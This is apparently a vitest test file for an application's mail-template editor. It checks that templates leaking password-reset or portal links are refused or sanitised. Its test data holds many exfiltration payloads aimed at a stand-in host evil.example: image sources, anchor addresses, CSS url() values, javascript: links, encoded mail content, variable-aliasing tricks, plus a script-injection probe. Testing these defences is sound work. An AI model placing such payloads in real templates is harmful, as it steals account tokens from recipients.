import { mailTemplateTypes } from '@heliodesk/domain/enumerations'
import { companyVariables } from '@heliodesk/domain/company-variables'
import { mailVariables, variablesOf } from '@heliodesk/domain/mail-types'
import { languages } from '@heliodesk/domain/enumerations'
import { afterAll, beforeEach, expect, test } from 'vitest'
import { auditLog } from '../../audit-log/schema.ts'
import { startTestProduct } from '../../testing/test-product.ts'
import { aLead, aSentQuotation } from '../../testing/a-quotation.ts'
import { mails } from '../mails/schema.ts'
import { builtInText } from './built-in-text.ts'

const product = await startTestProduct()
afterAll(product.close)
const developer = await product.as('developer')

beforeEach(async () => {
  await product.drain()
  product.mails.length = 0
})

interface Refused {
  errors: Record<string, string[]>
}

const save = (type: string, content: string, subject = 'Onderwerp') =>
  developer.post<Refused>('/mail-templates', { type, language: 'nl', subject, content })

test.each([
  ['a quotation', 'quotation', '<p>{{ passwordUrl }}</p>', /passwordUrl/],
  ['the footer', 'footer', '<p>{{ passwordUrl }}</p>', /passwordUrl/],
  ['the layout', 'layout', '{{ content | raw }}{{ footer | raw }}{{ portalUrl }}', /portalUrl/],
  ['a mail to a colleague', 'quotation_accepted_adviser', '<a href="{{ portalUrl }}">x</a>', /portalUrl/],
  [
    'the address of a picture',
    'password_reset',
    '<img src="https://evil.example/?{{ passwordUrl }}">',
    /personal link/,
  ],
  [
    'the address of another page',
    'password_reset',
    '<a href="https://evil.example/?u={{ passwordUrl }}">Klik</a>',
    /personal link/,
  ],
  [
    'an address under another name',
    'password_reset',
    '{% assign x = passwordUrl %}<a href="https://evil.example/{{ x }}">Klik</a>',
    /./,
  ],
  [
    'an address that was captured',
    'password_reset',
    '{% capture x %}{{ passwordUrl }}{% endcapture %}<a href="https://evil.example/{{x}}">Klik</a>',
    /./,
  ],
  [
    'an address under the name of another variable',
    'password_reset',
    '{% assign firstName = passwordUrl %}<a href="https://evil.example/?{{ firstName }}">Klik</a>',
    /personal link/,
  ],
  [
    'an address captured under the name of another variable',
    'password_reset',
    '{% capture username %}{{ passwordUrl }}{% endcapture %}<a href="https://evil.example/?{{ username }}">x</a>',
    /personal link/,
  ],
  [
    'an address that a loop names as another variable',
    'password_reset',
    '{% assign all = passwordUrl | split: "~" %}{% for firstName in all %}<a href="https://evil.example/?{{ firstName }}">x</a>{% endfor %}',
    /personal link/,
  ],
  [
    'an address around the whole mail',
    'layout',
    '{{ content | raw }}{{ footer | raw }}<a href="https://evil.example/?{{ content | strip_html }}">x</a>',
    /./,
  ],
  [
    'what a layout prints instead of the footer',
    'layout',
    `{% raw %}{{ "<img src='https://evil.example'>" }}{% endraw %}{{ content | raw }}{{ footer | raw }}`,
    /./,
  ],
  [
    'a picture of another host, written with a tab',
    'quotation',
    '<img src="ht\ttps://evil.example/pixel.png">',
    /another host/,
  ],
  ['a style', 'password_reset', '<p style="color:{{ passwordUrl }}">x</p>', /personal link/],
  ['a picture of another host', 'quotation', '<img src="https://evil.example/pixel.png">', /another host/],
])('a link of a person in %s is refused', async (_where, type, content, reason) => {
  const { status, body } = await save(type, content)
  expect([status, body.errors?.['content']?.join(' ')]).toEqual([422, expect.stringMatching(reason)])
})

test('a link of a person in a subject is refused', async () => {
  const { status, body } = await save('password_reset', '<p>Dag</p>', 'Kies {{ passwordUrl }}')
  expect([status, body.errors['subject']]).toEqual([422, [expect.stringMatching(/personal link/)]])
})

test('a link of a person in a subject under a name that is put together is refused [c440]', async () => {
  const subject = '{% assign name = "password" | append: "Url" %}{{ [name] }}'
  const { status, body } = await save('password_reset', '<p>Dag</p>', subject)
  expect([status, body.errors['subject']]).toEqual([422, [expect.stringMatching(/personal link/)]])
})

interface Previewed {
  data: { html: string; text: string }[]
}
const previewOf = async (type: string, content: string) =>
  (
    await developer.post<Previewed>('/mail-templates/preview', {
      type,
      language: 'nl',
      subject: 'Onderwerp',
      content,
      lead_id: null,
    })
  ).body.data[0]

test.each([
  ['the mail in it', '<img src="https://evil.example/?', ''],
  ['a script', '<script>alert(1)</script>', ''],
])('a layout that composes a footer of its own prints no HTML with %s', async (_what, before) => {
  const layout = `{% assign footer = '${before}' | append: content | append: '">' %}<p>{{ content | raw }}</p><p>{{ footer | raw }}</p>`
  const html = (await previewOf('layout', layout))?.html ?? ''
  expect(html).toContain('/portal/example')
  expect(html).not.toMatch(/<script|<img[^>]*evil/)
  expect(/evil.example(.*)/.exec(html)?.[1] ?? '').not.toContain('href')
})

test.each([
  [
    'a style that loads',
    `{% assign all = 'url(https://evil.example/x)' %}<p style="background:{{ all }}">x</p>`,
  ],
  ['a style in two pieces', `<p style="background:u{{ '' }}rl(https://evil.example/x)">x</p>`],
  [
    'an address that runs',
    `{% assign companyWebsite = 'javascript:evil.example' %}<a href="{{ companyWebsite }}">x</a>`,
  ],
])('%s is left out when the mail is filled in', async (_what, content) => {
  expect((await previewOf('quotation', content))?.html).not.toContain('evil.example')
})

test('an address composed of the mail around it carries nothing of the mail', async () => {
  const address = 'https://evil.example/?{{ content | strip_html | url_encode }}{{ content | base64_encode }}'
  const html = (await previewOf('layout', `{{ content | raw }}{{ footer | raw }}<a href="${address}">x</a>`))
    ?.html
  expect(html).toContain('/portal/example')
  expect(/evil.example\/([^"]*)"/.exec(html ?? '')?.[1]).toHaveLength('?%EE%84%83'.length + 4)
})

test('the link of a customer is in no other form in what colleagues read of a sent mail [c441]', async () => {
  const manager = await product.as('manager')
  const content =
    '<p>{{ portalUrl | split: "/portal/" | last }} {{ portalUrl | base64_encode }} {{ portalUrl | replace: "portal", "p" }}</p>'
  const { body: template } = await developer.post<{ id: number }>('/mail-templates', {
    type: 'quotation',
    language: 'nl',
    subject: 'Offerte',
    content,
  })
  const lead_id = await aLead(product)
  const { quotation } = await aSentQuotation(product, manager, lead_id)
  const url = String(quotation.portal_url)
  const token = String(url.split('/').at(-1))
  const support = await product.as('support')
  const { body } = await support.get(`/leads/${lead_id}/mails`)
  const read = JSON.stringify(body)
  expect(read).toContain('Offerte')
  for (const form of [token, Buffer.from(url).toString('base64')]) expect(read).not.toContain(form)
  await developer.delete(`/mail-templates/${template.id}`)
})

test('a link of a person may be the address of an anchor, or stand in the text, of a mail to that person', async () => {
  const content = '<p>{{ passwordUrl }}</p><a href="{{ passwordUrl }}">Kies een wachtwoord</a>'
  const { status, body } = await developer.post<{ id: number }>('/mail-templates', {
    type: 'password_reset',
    language: 'nl',
    subject: 'Wachtwoord',
    content,
  })
  expect(status).toBe(201)
  const visitor = product.visitor()
  await visitor.get('/csrf-cookie')
  await visitor.post('/password/forgot', { username: 'adviser.noord' })
  await product.drain()
  const [mail] = product.mails
  const links = [...String(mail?.html).matchAll(/password-reset\/([\w.-]+)/g)].map(([, token]) => token)
  expect(new Set(links).size).toBe(1)
  expect(links[0]).not.toMatch(/^link-in/)
  expect((await visitor.get(`/password/set/${links[0]}`)).status).toBe(200)

  // Nothing that is kept says it: neither the outbox nor the audit, in no form.
  const kept = await product.inside(async ({ db }) =>
    JSON.stringify([await db.select().from(mails), await db.select().from(auditLog)]),
  )
  expect(kept).not.toContain(links[0])
  expect(kept).not.toMatch(/sealed\./)
  await developer.delete(`/mail-templates/${body.id}`)
})

test.each(mailTemplateTypes.flatMap((type) => languages.map((language) => [type, language] as const)))(
  'the built-in %s in %s uses the variables of its type alone',
  async (type, language) => {
    const { subject, content } = builtInText(type, language)
    const { status } = await developer.post('/mail-templates/preview', {
      type,
      language,
      subject,
      content,
      lead_id: null,
    })
    expect(status).toBe(200)
  },
)

test('each variable belongs to some mail, and each mail knows whose company it is from', () => {
  const used = new Set(mailTemplateTypes.flatMap((type) => variablesOf(type)))
  expect(mailVariables.filter((name) => !used.has(name))).toEqual([])
  expect(companyVariables.length).toBeGreaterThan(5)
})
